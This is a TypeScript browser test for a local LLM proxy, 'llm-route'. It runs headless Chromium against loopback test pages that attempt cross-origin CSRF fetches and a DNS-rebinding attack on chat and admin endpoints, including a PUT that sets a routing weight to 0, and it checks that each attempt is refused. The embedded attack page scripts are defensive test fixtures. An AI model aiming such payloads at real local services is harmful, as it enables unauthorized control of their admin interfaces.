import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { describe, expect, it } from 'vitest';
import { loadConfigText } from '../../../src/config/load.js';
import { ProxyServer } from '../../../src/server/server.js';
import { browserUnavailable, launchChromium, type Target } from '../../helpers/chromium.js';
import { adminTiers, answer, controlYaml } from '../../helpers/control-kit.js';
import { useHarness, waitFor } from '../../helpers/harness.js';

/**
 * A web page cannot use llm-route (docs/security.md, "Browsers and web pages"), with a real headless Chromium in a network
 * namespace of its own (loopback only). One run walks three pages:
 * 1. a page from another loopback origin (127.0.0.2) fetches llm-route and /admin with
 *    text/plain and JSON bodies, cors and no-cors;
 * 2. a page from a listed cors_origins origin (127.0.0.3) uses llm-route like a browser client;
 * 3. a DNS-rebinding page: attacker.test (mapped to 127.0.0.1) first served by the attacker,
 *    then the same port is llm-route's, so the page's requests are same-origin.
 * Nothing but the listed page's request reaches an upstream, and no weight changes.
 */

const h = useHarness();
const unavailable = browserUnavailable();
// CI installs chromium (.ci/run): there a missing browser is a failure, not a skip.
const skip = unavailable !== null && process.env.CI !== 'true';
if (skip) console.log(`skipping the real-browser test: ${unavailable}`);

const WEBHOOK = {
  version: '4',
  status: 'firing',
  alerts: [{ status: 'firing', labels: { alertname: 'Page', route: 'chat', tier: 'local' }, fingerprint: 'page' }],
};

/** What each page script does with a fetch: the answer it could see, or the error. */
const ATTEMPT = `
async function attempt(name, url, init) {
  try {
    const r = await fetch(url, { cache: 'no-store', ...init });
    return { name, type: r.type, status: r.status, body: r.type === 'opaque' ? null : await r.text() };
  } catch (e) {
    return { name, error: String(e) };
  }
}`;

function attackPage(proxy: string, next: string): string {
  const chat = JSON.stringify({ model: 'chat', messages: [{ role: 'user', content: 'from the attack page' }] });
  return `${ATTEMPT}
(async () => {
  const P = ${JSON.stringify(proxy)}, chat = ${JSON.stringify(chat)}, webhook = ${JSON.stringify(JSON.stringify(WEBHOOK))};
  const plain = { 'content-type': 'text/plain' }, json = { 'content-type': 'application/json' };
  const results = [
    await attempt('chat text/plain', P + '/v1/chat/completions', { method: 'POST', headers: plain, body: chat }),
    await attempt('chat text/plain no-cors', P + '/v1/chat/completions', { method: 'POST', mode: 'no-cors', headers: plain, body: chat }),
    await attempt('chat json', P + '/v1/chat/completions', { method: 'POST', headers: { ...json, authorization: 'Bearer x' }, body: chat }),
    await attempt('alerts text/plain no-cors', P + '/admin/alerts', { method: 'POST', mode: 'no-cors', headers: plain, body: webhook }),
    await attempt('alerts json', P + '/admin/alerts', { method: 'POST', headers: json, body: webhook }),
    await attempt('weight json', P + '/admin/routes/chat/tiers/local', { method: 'PUT', headers: json, body: '{"weight":0}' }),
    await attempt('routes get', P + '/admin/routes', {}),
  ];
  await fetch('/report/attack', { method: 'POST', body: JSON.stringify(results) });
  location.href = ${JSON.stringify(next)};
})();`;
}

function clientPage(proxy: string, next: string): string {
  const chat = JSON.stringify({ model: 'chat', messages: [{ role: 'user', content: 'from the listed origin' }] });
  return `${ATTEMPT}
(async () => {
  const r = await fetch(${JSON.stringify(proxy)} + '/v1/chat/completions', {
    method: 'POST', headers: { 'content-type': 'application/json', authorization: 'Bearer sk-local', 'x-stainless-os': 'Linux' }, body: ${JSON.stringify(chat)},
  }).catch((e) => e);
  const result = r instanceof Response ? { status: r.status, tier: r.headers.get('x-llm-route-tier'), body: await r.json() } : { error: String(r) };
  await fetch('/report/client', { method: 'POST', body: JSON.stringify(result) });
  location.href = ${JSON.stringify(next)};
})();`;
}

function rebindPage(reportTo: string): string {
  const chat = JSON.stringify({ model: 'chat', messages: [{ role: 'user', content: 'from the rebinding page' }] });
  return `${ATTEMPT}
(async () => {
  await fetch('/report/rebind-loaded', { method: 'POST', body: '{}' });
  // Until the name "rebinds" (the test puts llm-route on this port), /v1/models is the attacker's own.
  for (;;) {
    const seen = await attempt('poll', '/v1/models', {});
    if (seen.body && !seen.body.includes('"attacker":true')) break;
    await new Promise((r) => setTimeout(r, 100));
  }
  const json = { 'content-type': 'application/json' };
  const results = [
    await attempt('models get', '/v1/models', {}),
    await attempt('chat json', '/v1/chat/completions', { method: 'POST', headers: json, body: ${JSON.stringify(chat)} }),
    await attempt('routes get', '/admin/routes', {}),
    await attempt('weight json', '/admin/routes/chat/tiers/local', { method: 'PUT', headers: json, body: '{"weight":0}' }),
  ];
  await fetch(${JSON.stringify(reportTo)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify(results) });
})();`;
}

/** A site of the test's pages on one loopback address: serves its scripts, collects what they report. */
class PageSite {
  private readonly server: Server;
  private readonly reports = new Map<string, unknown>();
  port = 0;
  /** Page name → its script (set once every port is known). */
  pages: Record<string, () => string> = {};

  constructor(private readonly host: string) {
    this.server = createServer((req, res) => this.handle(req, res));
  }

  async listen(): Promise<this> {
    await new Promise<void>((resolve) => this.server.listen(0, this.host, resolve));
    this.port = (this.server.address() as AddressInfo).port;
    return this;
  }

  get target(): Target {
    return { host: this.host, port: this.port };
  }

  url(page: string, host = this.host): string {
    return `http://${host}:${this.port}/${page}`;
  }

  report(name: string): Promise<any> {
    return waitFor(() => this.reports.get(name), 45_000, `the page's "${name}" report`);
  }

  close(): Promise<void> {
    this.server.closeAllConnections();
    return new Promise((resolve) => this.server.close(() => resolve()));
  }

  private handle(req: IncomingMessage, res: ServerResponse): void {
    const path = req.url ?? '/';
    if (req.method === 'POST' && path.startsWith('/report/')) {
      let body = '';
      req.on('data', (d) => (body += String(d)));
      req.on('end', () => {
        this.reports.set(path.slice(8), JSON.parse(body));
        res.end();
      });
      return;
    }
    const script = this.pages[path.slice(1)];
    if (script) {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' });
      res.end(`<!doctype html><title>${path}</title><script>${script()}</script>`);
      return;
    }
    // The rebinding page's poll, while this is still the attacker's server.
    res.writeHead(path === '/v1/models' ? 200 : 404, { 'content-type': 'application/json', 'cache-control': 'no-store' });
    res.end('{"attacker":true}');
  }
}

describe.skipIf(skip)('a real browser', () => {
  it("lets no page use llm-route but a listed origin's, and no rebinding page at all", { timeout: 120_000 }, async () => {
    if (unavailable) throw new Error(`the real-browser test cannot run: ${unavailable}`);
    const fake = await h.fake();
    fake.always(answer('hello'));
    const rebindFake = await h.fake();
    rebindFake.always(answer('rebound'));

    const attacker = await new PageSite('127.0.0.2').listen();
    const listed = await new PageSite('127.0.0.3').listen();
    const rebinder = await new PageSite('127.0.0.1').listen();
    h.defer(() => attacker.close());
    h.defer(() => listed.close());
    let rebinderOpen = true;
    h.defer(() => rebinderOpen && rebinder.close());

    const p = await h.proxy(controlYaml({ tiers: [{ name: 'local', url: fake.url }], server: { cors_origins: [`http://127.0.0.3:${listed.port}`] } }));
    const proxyTarget: Target = { host: '127.0.0.1', port: Number(new URL(p.origin).port) };
    const rebindUrl = rebinder.url('rebind.html', 'attacker.test');
    attacker.pages = { 'attack.html': () => attackPage(p.origin, listed.url('client.html')) };
    listed.pages = { 'client.html': () => clientPage(p.origin, rebindUrl) };
    rebinder.pages = { 'rebind.html': () => rebindPage(`http://127.0.0.2:${attacker.port}/report/rebind`) };

    const browser = await launchChromium(
      attacker.url('attack.html'),
      [proxyTarget, attacker.target, listed.target, rebinder.target],
      ['--host-resolver-rules=MAP attacker.test 127.0.0.1'],
    );
    h.defer(() => browser.close());
    const why = (): string => `chromium stderr:\n${browser.stderr().slice(-3000)}`;

    // 1. Another origin: cors requests fail in the page, no-cors ones get an opaque answer.
    const attack: Array<Record<string, unknown>> = await attacker.report('attack').catch((err) => {
      throw new Error(`${(err as Error).message}\n${why()}`);
    });
    for (const r of attack) {
      if (String(r.name).includes('no-cors')) expect(r, String(r.name)).toMatchObject({ type: 'opaque', status: 0 });
      else expect(r, String(r.name)).toMatchObject({ error: expect.stringContaining('Failed to fetch') });
    }
    // They did reach llm-route: the simple ones as themselves, the others as refused preflights.
    const fromAttacker = browser.heads(proxyTarget).filter((head) => head.includes(`Origin: http://127.0.0.2:${attacker.port}`));
    expect(fromAttacker.filter((head) => head.startsWith('POST /v1/chat/completions ')).length).toBe(2);
    expect(fromAttacker.some((head) => head.startsWith('POST /admin/alerts '))).toBe(true);
    expect(fromAttacker.filter((head) => head.startsWith('OPTIONS ')).length).toBeGreaterThanOrEqual(3);

    // 2. The listed origin: preflight, then its request answered by the tier, readable.
    const client = await listed.report('client');
    expect(client, why()).toMatchObject({ status: 200, tier: 'local', body: { choices: [{ message: { content: 'hello' } }] } });

    // 3. Rebinding: the attacker's server goes, llm-route takes its port; the page's requests are now same-origin.
    await rebinder.report('rebind-loaded');
    await rebinder.close();
    rebinderOpen = false;
    const config = loadConfigText(controlYaml({ tiers: [{ name: 'local', url: rebindFake.url }] }), '/test/llm-route.yaml', {});
    const rebound = new ProxyServer({ config, port: rebinder.port });
    await rebound.listen();
    h.defer(() => rebound.close(500));
    const rebind: Array<Record<string, unknown>> = await attacker.report('rebind');
    for (const r of rebind) {
      expect(r, String(r.name)).toMatchObject({ status: 403 });
      expect(JSON.parse(String(r.body)), String(r.name)).toMatchObject({ error: { code: 'host_not_allowed' } });
    }
    expect(browser.heads(rebinder.target).some((head) => head.includes(`Host: attacker.test:${rebinder.port}`) && head.startsWith('PUT /admin/'))).toBe(true);

    // Only the listed page's request reached an upstream; no weight moved.
    expect(fake.requests.map((r) => (r.body.messages as Array<{ content: string }>)[0].content)).toEqual(['from the listed origin']);
    expect(rebindFake.requests).toHaveLength(0);
    expect((await adminTiers(p)).local).toMatchObject({ weight: 100, override: null });
    const reboundTiers = await adminTiers({ origin: `http://127.0.0.1:${rebinder.port}` });
    expect(reboundTiers.local).toMatchObject({ weight: 100, override: null });
  });
});
